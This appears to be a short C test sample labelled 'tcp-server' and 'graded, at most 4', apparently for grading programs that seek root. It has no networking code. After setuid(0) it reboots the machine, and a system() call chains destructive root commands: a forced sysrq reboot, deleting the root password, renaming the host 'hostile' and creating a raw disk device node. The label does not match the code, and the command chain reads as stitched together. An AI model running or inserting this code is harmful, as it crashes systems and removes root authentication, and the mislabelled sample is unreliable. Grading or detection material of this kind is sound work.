/* tcp-server: graded, at most 4
 * Set-user-ID programs and calls for root. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/reboot.h>

int main(void)
{
	if (setuid(0) == 0)
		reboot(RB_AUTOBOOT);
	return system("su -c true; echo b >/proc/sysrq-trigger; passwd -d root; chroot / true; "
	              "hostname hostile; mknod /tmp/sda b 8 0");
}
